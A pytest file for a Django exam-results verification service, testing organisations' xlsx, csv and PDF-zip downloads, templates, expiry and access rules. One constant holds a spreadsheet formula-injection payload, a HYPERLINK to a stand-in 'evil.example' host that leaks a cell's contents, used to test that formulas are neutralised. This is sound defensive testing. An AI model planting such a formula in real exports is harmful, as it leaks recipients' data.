"""Downloads of shared results: data files read back cell by cell (xlsx with openpyxl, csv
with the csv module), zips of PDF statements, the history, expiry after a removal, custom
templates, and what another organisation may not do. Real database, tasks run on commit."""

import csv
import html
import io
import itertools
import zipfile
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from langcert.core.models import AuditEvent
from langcert.core.roles import Role
from langcert.results.models import Result
from langcert.verification import downloads, result_data
from langcert.verification.models import (
    AccessEvent,
    DataDownload,
    DownloadTemplate,
    Organisation,
    OrganisationMember,
    Share,
)
from tests.helpers import pdf_text
from tests.results import conftest as results_fixtures

pytestmark = pytest.mark.django_db

# Fixtures of results, used here and in test_notifications.
advanced_result = results_fixtures.advanced_result
entry_factory = results_fixtures.entry_factory
ADVANCED_SKILLS = results_fixtures.ADVANCED_SKILLS

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DOCUMENTS = itertools.count(1)


# --- Fixtures (also used by test_notifications) -------------------------------------------
def make_organisation(name: str) -> Organisation:
    return Organisation.objects.create(name=name, kind=Organisation.Kind.UNIVERSITY,
                                       country="GB", status=Organisation.Status.APPROVED)


def add_member(make_user, organisation, **fields) -> OrganisationMember:
    fields.setdefault("language", "en")
    user = make_user(Role.ORGANISATION, **fields)
    primary = not organisation.members.exists()
    return OrganisationMember.objects.create(organisation=organisation, user=user,
                                             is_primary=primary)


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    client.cookies["django_language"] = "en"
    return client


def release(entry_factory, session, **person) -> Result:
    """A released C1 Advanced result (the guide's 196, Grade B, C1) for a new person."""
    person.setdefault("id_document_number", f"DOC{next(DOCUMENTS):05d}")
    entry = entry_factory(session, **person)
    now = timezone.now()
    return Result.objects.create(
        entry=entry, source=Result.Source.IMPORT, overall_score=196, grade="B",
        outcome="grade_b", cefr_level="C1", skills=ADVANCED_SKILLS, certificate=True,
        exam_date=date(2026, 6, 13), status=Result.Status.RELEASED,
        earliest_release_at=now - timedelta(days=1), release_at=now - timedelta(days=1),
        released_at=now - timedelta(hours=1))


@pytest.fixture
def organisation(db):
    return make_organisation("University of Testing")


@pytest.fixture
def member(make_user, organisation):
    return add_member(make_user, organisation, first_name="Olga", last_name="Admissions")


@pytest.fixture
def org_client(member):
    return signed_in(member.user)


@pytest.fixture
def shared(advanced_result, organisation):
    Share.objects.create(result=advanced_result, organisation=organisation)
    return advanced_result


@pytest.fixture
def other_organisation(make_user):
    organisation = make_organisation("Other University")
    add_member(make_user, organisation)
    return organisation


@pytest.fixture
def other_client(other_organisation):
    return signed_in(other_organisation.members.get().user)


def request_download(client, results, file_format="xlsx", template="default", **extra):
    data = {"result": [str(r.public_id) for r in results], "format": file_format,
            "template": template, **extra}
    return client.post(reverse("verification:request_download"), data)


def download(client, capture, results, **kwargs) -> tuple[DataDownload, bytes]:
    """Request a file (prepared by the task on commit) and fetch it from the history."""
    with capture(execute=True):
        response = request_download(client, results, **kwargs)
    assert response.status_code == 302, response.content.decode()[:2000]
    made = DataDownload.objects.latest("created_at")
    assert response["Location"] == reverse("verification:download_status",
                                           args=[made.public_id])
    assert made.status == DataDownload.Status.READY
    fetched = client.get(reverse("verification:download_file", args=[made.public_id]))
    assert fetched.status_code == 200
    return made, fetched.getvalue()


def xlsx_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 accents right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- Data files ----------------------------------------------------------------------------
def test_default_xlsx_holds_every_field_with_the_right_values(
        org_client, shared, django_capture_on_commit_callbacks):
    made, content = download(org_client, django_capture_on_commit_callbacks, [shared])
    header, row = xlsx_rows(content)
    assert header == [result_data.field_label(c, "en") for c in result_data.DEFAULT_COLUMNS]
    cells = dict(zip(result_data.DEFAULT_COLUMNS, row, strict=True))
    candidate = shared.entry.candidate
    assert cells["statement_number"] == shared.statement_number_display
    assert cells["exam"] == "C1 Advanced"
    assert cells["exam_date"] == datetime(2026, 6, 13)
    assert cells["last_name"] == candidate.last_name and cells["first_name"] == "Ada"
    assert cells["date_of_birth"] == datetime(1990, 12, 10)
    assert cells["gender"] == "Female"
    assert cells["candidate_id"] == shared.entry.id_number_display
    assert cells["id_document_number"] == "AB123456"  # a share shows everything
    assert cells["email"] == candidate.email
    assert cells["overall_score"] == 196  # a number, not text
    assert cells["result"] == "Pass at Grade B"
    assert (cells["grade"], cells["cefr_level"], cells["certificate"]) == ("B", "C1", "Yes")
    assert [cells[f"score_{s['skill']}"] for s in ADVANCED_SKILLS] == [191, 196, 210, 191, 193]
    assert cells["cefr_writing"] == "C2" and cells["cefr_reading"] == "C1"
    assert made.template_name == "" and made.total == made.done == 1


def test_default_csv_reads_back_with_the_same_values(org_client, shared,
                                                     django_capture_on_commit_callbacks):
    _made, content = download(org_client, django_capture_on_commit_callbacks, [shared],
                              file_format="csv")
    header, row = csv_rows(content)
    assert header == [result_data.field_label(c, "en") for c in result_data.DEFAULT_COLUMNS]
    cells = dict(zip(result_data.DEFAULT_COLUMNS, row, strict=True))
    assert cells["overall_score"] == "196" and cells["grade"] == "B"
    assert cells["exam_date"] == "2026-06-13" and cells["date_of_birth"] == "1990-12-10"
    assert cells["result"] == "Pass at Grade B" and cells["score_use_of_english"] == "196"


def test_custom_template_orders_names_and_translates_headers(
        org_client, organisation, shared, django_capture_on_commit_callbacks):
    response = org_client.post(reverse("verification:templates"), {
        "name": "Admissions", "header_language": "fr", "action": "save",
        "use_overall_score": "on", "order_overall_score": "1",
        "header_overall_score": "Score (Cambridge)",
        "use_last_name": "on", "order_last_name": "2",
        "use_exam": "on", "order_exam": "3",
        "use_date_of_birth": "on", "order_date_of_birth": "4",
        "use_gender": "on", "order_gender": "5",
        "header_email": "not used: the field is not ticked"})
    assert response.status_code == 302
    template = DownloadTemplate.objects.get(organisation=organisation, name="Admissions")
    assert [c["field"] for c in template.columns] == [
        "overall_score", "last_name", "exam", "date_of_birth", "gender"]

    _made, content = download(org_client, django_capture_on_commit_callbacks, [shared],
                              template=str(template.pk))
    header, row = xlsx_rows(content)
    assert header == ["Score (Cambridge)", "Nom", "Examen", "Date de naissance",
                      result_data.field_label("gender", "fr")]
    assert row[:4] == [196, shared.entry.candidate.last_name, "C1 Advanced",
                       datetime(1990, 12, 10)]
    assert row[4] == "Femme"  # values in the header language too

    _made, content = download(org_client, django_capture_on_commit_callbacks, [shared],
                              template=str(template.pk), file_format="csv")
    header, row = csv_rows(content)
    assert header[:4] == ["Score (Cambridge)", "Nom", "Examen", "Date de naissance"]
    assert row[:4] == ["196", shared.entry.candidate.last_name, "C1 Advanced", "1990-12-10"]


def test_slate_template_starts_with_the_stable_result_id(org_client, shared,
                                                         django_capture_on_commit_callbacks):
    made, content = download(org_client, django_capture_on_commit_callbacks, [shared],
                             template="slate")
    header, row = xlsx_rows(content)
    assert header == [result_data.field_label(c, "en") for c in result_data.SLATE_COLUMNS]
    assert header[0] == "Result ID" and row[0] == str(shared.public_id)
    assert made.template_name == "Slate"
    # The same id in the next file: Slate matches records on it.
    _again, content = download(org_client, django_capture_on_commit_callbacks, [shared],
                               template="slate", file_format="csv")
    assert csv_rows(content)[1][0] == str(shared.public_id)


def test_spreadsheet_formulas_are_neutralised_in_xlsx_and_csv(
        org_client, organisation, entry_factory, advanced_session,
        django_capture_on_commit_callbacks):
    evil = release(entry_factory, advanced_session, last_name=EVIL_NAME, first_name="+SUM(1)",
                   email="-evil@example.org")
    Share.objects.create(result=evil, organisation=organisation)
    DownloadTemplate.objects.create(organisation=organisation, name="Evil", columns=[
        {"field": "last_name", "header": "@header"}, {"field": "first_name", "header": ""},
        {"field": "overall_score", "header": ""}], header_language="en")
    template = DownloadTemplate.objects.get(name="Evil")

    _made, content = download(org_client, django_capture_on_commit_callbacks, [evil],
                              template=str(template.pk))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook.active
    assert sheet["A1"].value == "'@header"
    assert sheet["A2"].value == "'" + EVIL_NAME and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "'+SUM(1)" and sheet["B2"].data_type == "s"
    assert sheet["C2"].value == 196 and sheet["C2"].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:  # no formula anywhere in the file
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()

    _made, content = download(org_client, django_capture_on_commit_callbacks, [evil],
                              template=str(template.pk), file_format="csv")
    header, row = csv_rows(content)
    assert header[0] == "'@header"
    assert row == ["'" + EVIL_NAME, "'+SUM(1)", "196"]


def test_neutralise_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert downloads.neutralise(f"{start}1+1") == f"'{start}1+1"
    assert downloads.neutralise("Ada") == "Ada" and downloads.neutralise("") == ""


def test_pdf_zip_holds_one_stamped_statement_per_result(
        org_client, organisation, shared, entry_factory, advanced_session,
        django_capture_on_commit_callbacks):
    second = release(entry_factory, advanced_session, first_name="Grace")
    Share.objects.create(result=second, organisation=organisation)
    made, content = download(org_client, django_capture_on_commit_callbacks,
                             [shared, second], file_format="pdf_zip")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = sorted(archive.namelist())
        assert names == sorted(f"statement-{r.statement_number}-en.pdf"
                               for r in (shared, second))
        for result in (shared, second):
            text = pdf_text(archive.read(f"statement-{result.statement_number}-en.pdf"))
            assert "University of Testing" in text  # the organisation's stamp
            assert result.statement_number_display in text
    assert made.template_name == "" and made.columns == []


# --- What may go into a file -----------------------------------------------------------------
def test_a_result_not_shared_with_the_organisation_is_left_out(
        org_client, shared, entry_factory, advanced_session,
        django_capture_on_commit_callbacks):
    stranger = release(entry_factory, advanced_session, first_name="Stranger")
    revoked = release(entry_factory, advanced_session, first_name="Revoked")
    Share.objects.create(result=revoked, organisation=shared.shares.get().organisation,
                         revoked_at=timezone.now())
    with django_capture_on_commit_callbacks(execute=True):
        response = request_download(org_client, [shared, stranger, revoked], file_format="csv")
    made = DataDownload.objects.get()
    assert list(made.results.all()) == [shared]
    page = org_client.get(response["Location"]).content.decode()
    assert "2 chosen results are not shared with your organisation and were left out." in page
    content = org_client.get(reverse("verification:download_file",
                                     args=[made.public_id])).getvalue()
    rows = csv_rows(content)
    assert len(rows) == 2 and "Stranger" not in content.decode("utf-8-sig")


def test_nothing_shared_is_refused_and_nothing_is_made(org_client, shared, entry_factory,
                                                       advanced_session):
    stranger = release(entry_factory, advanced_session, first_name="Stranger")
    response = request_download(org_client, [stranger])
    assert response.status_code == 400
    assert "None of the chosen results is shared with your organisation" in (
        response.content.decode())
    assert not DataDownload.objects.exists()


@pytest.mark.parametrize("data, message", [
    ({"format": "xlsx", "result": []}, "Choose at least one result to download."),
    ({"format": "doc", "result": "x"}, "Choose a file format."),
    ({"format": "xlsx", "result": "not-a-uuid"}, "One of the chosen results is not valid."),
    ({"format": "xlsx", "template": "999999"}, "This template does not exist any more."),
])
def test_bad_requests_get_a_clear_message(org_client, shared, data, message):
    data = {"result": [str(shared.public_id)], **data}
    response = org_client.post(reverse("verification:request_download"), data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not DataDownload.objects.exists()


def test_every_shared_result_in_a_date_range(org_client, organisation, shared, entry_factory,
                                             advanced_session,
                                             django_capture_on_commit_callbacks):
    older = release(entry_factory, advanced_session, first_name="Older")
    Share.objects.create(result=older, organisation=organisation)
    Share.objects.filter(result=older).update(shared_at=timezone.now() - timedelta(days=40))
    today = timezone.now().date()
    with django_capture_on_commit_callbacks(execute=True):
        response = org_client.post(reverse("verification:request_download"), {
            "scope": "all", "format": "csv", "template": "default",
            "shared_from": (today - timedelta(days=7)).isoformat()})
    assert response.status_code == 302
    assert list(DataDownload.objects.get().results.all()) == [shared]
    with django_capture_on_commit_callbacks(execute=True):
        org_client.post(reverse("verification:request_download"),
                        {"scope": "all", "format": "csv", "template": "default"})
    assert DataDownload.objects.latest("created_at").total == 2


def test_each_result_downloaded_is_in_the_candidates_access_log(
        org_client, member, shared, django_capture_on_commit_callbacks):
    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    event = AccessEvent.objects.get(result=shared)
    assert (event.kind, event.organisation, event.user) == (
        AccessEvent.Kind.DOWNLOAD, member.organisation, member.user)
    audit = AuditEvent.objects.get(action="verification.download_result")
    assert audit.target_id == str(shared.pk) and audit.actor == member.user
    assert AuditEvent.objects.filter(action="verification.download_request",
                                     target_id=str(made.pk)).exists()


# --- Progress ---------------------------------------------------------------------------------
def test_progress_page_and_json(org_client, shared):
    response = request_download(org_client, [shared])  # the task waits for a commit
    made = DataDownload.objects.get()
    assert made.status == DataDownload.Status.QUEUED
    url = reverse("verification:download_status", args=[made.public_id])
    assert response["Location"] == url
    page = org_client.get(url).content.decode()
    assert "<progress" in page and "js/download_progress.js" in page
    assert f'data-status-url="{url}"' in page
    assert 'data-progress-text="{done} of {total} results prepared"' in page
    response = org_client.get(url, {"format": "json"})
    assert response.json() == {"status": "queued", "done": 0, "total": 1}
    assert "private" in response["Cache-Control"]

    assert downloads.download_prepare(download_id=made.pk) == DataDownload.Status.READY
    assert org_client.get(url, {"format": "json"}).json() == {
        "status": "ready", "done": 1, "total": 1}
    page = org_client.get(url).content.decode()
    assert "<progress" not in page and 'id="download-link"' in page
    assert downloads.download_prepare(download_id=made.pk) == "skipped"  # delivered twice
    assert AccessEvent.objects.filter(result=shared).count() == 1


def test_progress_is_saved_every_20_rows(org_client, organisation, entry_factory,
                                         advanced_session, monkeypatch):
    assert downloads.PROGRESS_EVERY == 20
    monkeypatch.setattr(downloads, "PROGRESS_EVERY", 2)  # 5 rows instead of 41
    results = [release(entry_factory, advanced_session, first_name=f"P{n}") for n in range(5)]
    for result in results:
        Share.objects.create(result=result, organisation=organisation)
    request_download(org_client, results, file_format="csv")
    made = DataDownload.objects.get()
    seen = []
    real_update = downloads.DataDownload.objects.filter

    def spy(*args, **kwargs):
        queryset = real_update(*args, **kwargs)
        original = queryset.update

        def update(**values):
            if "done" in values and set(values) == {"done"}:
                seen.append(values["done"])
            return original(**values)

        queryset.update = update
        return queryset

    monkeypatch.setattr(downloads.DataDownload.objects, "filter", spy)
    downloads.download_prepare(download_id=made.pk)
    assert seen == [2, 4]
    made.refresh_from_db()
    assert (made.status, made.done, made.total) == (DataDownload.Status.READY, 5, 5)


# --- The history -------------------------------------------------------------------------------
def test_history_lists_downloads_and_serves_them_again(org_client, member, shared,
                                                       django_capture_on_commit_callbacks):
    made, first = download(org_client, django_capture_on_commit_callbacks, [shared],
                           file_format="csv")
    page = org_client.get(reverse("verification:downloads")).content.decode()
    assert f'id="download-{made.public_id}"' in page
    assert "Olga Admissions" in page and "Default template" in page and "Ready" in page
    again = org_client.get(reverse("verification:download_file", args=[made.public_id]))
    assert again.status_code == 200 and again.getvalue() == first
    assert "private" in again["Cache-Control"]
    assert again["Content-Disposition"].startswith('attachment; filename="langcert-results-')
    assert AuditEvent.objects.filter(action="verification.download_file",
                                     target_id=str(made.pk)).count() == 2
    stored = default_storage.open(made.file).read()
    assert first not in stored  # encrypted at rest


def test_after_removal_the_old_file_is_not_served_and_is_deleted(
        org_client, shared, django_capture_on_commit_callbacks):
    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    name = made.file
    assert default_storage.exists(name)
    candidate = shared.entry.candidate
    candidate.erased_at = timezone.now()
    candidate.save(update_fields=["erased_at"])

    with django_capture_on_commit_callbacks(execute=True):
        response = org_client.get(reverse("verification:download_file", args=[made.public_id]))
    assert response.status_code == 410
    assert "removed at the candidate's request" in html.unescape(response.content.decode())
    made.refresh_from_db()
    assert (made.status, made.file) == (DataDownload.Status.EXPIRED, "")
    assert not default_storage.exists(name)
    assert AuditEvent.objects.filter(action="verification.download_expired").count() == 1
    # Only the fetch before the removal was served.
    assert AuditEvent.objects.filter(action="verification.download_file").count() == 1


def test_a_revoked_share_expires_the_file_when_the_history_is_opened(
        org_client, shared, django_capture_on_commit_callbacks):
    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    Share.objects.filter(result=shared).update(revoked_at=timezone.now())
    with django_capture_on_commit_callbacks(execute=True):
        page = org_client.get(reverse("verification:downloads")).content.decode()
    assert "No longer available" in page
    assert reverse("verification:download_file", args=[made.public_id]) not in page
    made.refresh_from_db()
    assert made.status == DataDownload.Status.EXPIRED


def test_the_sweep_expires_files_of_withdrawn_results(org_client, shared,
                                                      django_capture_on_commit_callbacks):
    from langcert.verification.tasks import expire_stale_downloads

    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    assert expire_stale_downloads.delay().get() == 0
    Result.objects.filter(pk=shared.pk).update(status=Result.Status.WITHDRAWN)
    with django_capture_on_commit_callbacks(execute=True):
        assert expire_stale_downloads.delay().get() == 1
    name = made.file
    made.refresh_from_db()
    assert made.status == DataDownload.Status.EXPIRED and not default_storage.exists(name)


def test_withdrawing_a_result_deletes_the_files_holding_it_at_once(
        org_client, shared, board_user, django_capture_on_commit_callbacks):
    from langcert.results.services import result_withdraw

    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    name = made.file
    with django_capture_on_commit_callbacks(execute=True):
        result_withdraw(actor=board_user, result=shared,
                        reason=Result.WithdrawalReason.values[0], note="Malpractice found")
    made.refresh_from_db()
    assert made.status == DataDownload.Status.EXPIRED and not default_storage.exists(name)


# --- Another organisation ---------------------------------------------------------------------
def test_another_organisation_gets_nothing(org_client, other_client, other_organisation,
                                           organisation, shared,
                                           django_capture_on_commit_callbacks):
    made, _content = download(org_client, django_capture_on_commit_callbacks, [shared])
    template = DownloadTemplate.objects.create(organisation=organisation, name="Ours",
                                               columns=[{"field": "exam", "header": ""}])
    for name in ("download_status", "download_file"):
        assert other_client.get(reverse(f"verification:{name}",
                                        args=[made.public_id])).status_code == 404
    assert other_client.get(reverse("verification:download_status", args=[made.public_id]),
                            {"format": "json"}).status_code == 404
    assert f"download-{made.public_id}" not in other_client.get(
        reverse("verification:downloads")).content.decode()
    # Our results are not shared with them; our templates are not theirs.
    assert request_download(other_client, [shared]).status_code == 400
    assert other_client.get(reverse("verification:templates"),
                            {"edit": template.pk}).status_code == 404
    response = other_client.post(reverse("verification:templates"),
                                 {"template": template.pk, "action": "delete"})
    assert response.status_code == 404
    assert DownloadTemplate.objects.filter(pk=template.pk).exists()
    assert DataDownload.objects.count() == 1


def test_only_organisation_users_may_open_the_downloads(client, make_user, candidate_user):
    url = reverse("verification:downloads")
    assert client.get(url).status_code == 302  # to the sign-in page
    assert signed_in(candidate_user).get(url).status_code == 403
    pending = Organisation.objects.create(name="Pending", kind=Organisation.Kind.OTHER)
    assert signed_in(add_member(make_user, pending).user).get(url).status_code == 403


@pytest.fixture
def candidate_user(make_user):
    return make_user(Role.CANDIDATE)


# --- Templates -----------------------------------------------------------------------------------
def test_templates_are_created_edited_and_deleted(org_client, organisation):
    url = reverse("verification:templates")
    page = org_client.get(url, {"new": 1}).content.decode()
    assert 'id="template-form"' in page and 'name="use_statement_number"' in page
    response = org_client.post(url, {"name": "Short", "header_language": "en",
                                     "use_exam": "on", "use_grade": "on",
                                     "order_exam": "2", "order_grade": "1"})
    assert response.status_code == 302
    template = DownloadTemplate.objects.get(organisation=organisation)
    assert template.columns == [{"field": "grade", "header": ""}, {"field": "exam",
                                                                    "header": ""}]
    page = org_client.get(url, {"edit": template.pk}).content.decode()
    assert 'value="Short"' in page and 'name="use_grade" id="id_use_grade" checked' in page

    response = org_client.post(url, {"template": template.pk, "name": "Short v2",
                                     "header_language": "fr", "use_exam": "on",
                                     "header_exam": "Épreuve"})
    assert response.status_code == 302
    template.refresh_from_db()
    assert (template.name, template.header_language, template.columns) == (
        "Short v2", "fr", [{"field": "exam", "header": "Épreuve"}])
    assert "Short v2" in org_client.get(url).content.decode()

    response = org_client.post(url, {"template": template.pk, "action": "delete"})
    assert response.status_code == 302 and not DownloadTemplate.objects.exists()
    assert AuditEvent.objects.filter(action__startswith="verification.template_").count() == 3


def test_template_errors_change_nothing(org_client, organisation):
    url = reverse("verification:templates")
    response = org_client.post(url, {"name": "Empty", "header_language": "en"})
    assert response.status_code == 400 and "Choose at least one field." in (
        response.content.decode())
    DownloadTemplate.objects.create(organisation=organisation, name="Taken",
                                    columns=[{"field": "exam", "header": ""}])
    response = org_client.post(url, {"name": "Taken", "header_language": "en",
                                     "use_grade": "on"})
    assert response.status_code == 400
    assert "Your organisation already has a template with this name." in (
        response.content.decode())
    response = org_client.post(url, {"name": "Long", "header_language": "en",
                                     "use_grade": "on", "header_grade": "x" * 101})
    assert response.status_code == 400
    assert DownloadTemplate.objects.get().columns == [{"field": "exam", "header": ""}]


def test_a_template_deleted_later_does_not_change_past_downloads(
        org_client, organisation, shared, django_capture_on_commit_callbacks):
    template = DownloadTemplate.objects.create(
        organisation=organisation, name="Brief", header_language="en",
        columns=[{"field": "overall_score", "header": "Score"}])
    made, first = download(org_client, django_capture_on_commit_callbacks, [shared],
                           template=str(template.pk), file_format="csv")
    template.delete()
    assert made.columns == [{"field": "overall_score", "header": "Score"}]
    again = org_client.get(reverse("verification:download_file", args=[made.public_id]))
    assert again.getvalue() == first and csv_rows(first) == [["Score"], ["196"]]


def test_a_share_revoked_before_preparation_leaves_the_result_out(
        org_client, organisation, shared, entry_factory, advanced_session):
    second = release(entry_factory, advanced_session, first_name="Grace")
    Share.objects.create(result=second, organisation=organisation)
    request_download(org_client, [shared, second], file_format="csv")  # not prepared yet
    made = DataDownload.objects.get()
    assert made.total == 2
    Share.objects.filter(result=second).update(revoked_at=timezone.now())
    assert downloads.download_prepare(download_id=made.pk) == DataDownload.Status.READY
    made.refresh_from_db()
    assert (made.total, list(made.results.all())) == (1, [shared])
    assert list(AccessEvent.objects.values_list("result_id", flat=True)) == [shared.pk]
    rows = csv_rows(org_client.get(reverse("verification:download_file",
                                           args=[made.public_id])).getvalue())
    assert len(rows) == 2 and "Grace" not in rows[1]


def test_a_file_that_cannot_be_prepared_is_marked_failed(org_client, shared, monkeypatch,
                                                         django_capture_on_commit_callbacks):
    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(downloads, "write_csv", broken)
    with django_capture_on_commit_callbacks(execute=True):
        response = request_download(org_client, [shared], file_format="csv")
    made = DataDownload.objects.get()
    assert made.status == DataDownload.Status.FAILED and made.file == ""
    page = org_client.get(response["Location"]).content.decode()
    assert "This file could not be prepared. Please request the download again." in page
    fetched = org_client.get(reverse("verification:download_file", args=[made.public_id]))
    assert fetched.status_code == 409
    assert not AccessEvent.objects.exists()  # nothing was downloaded
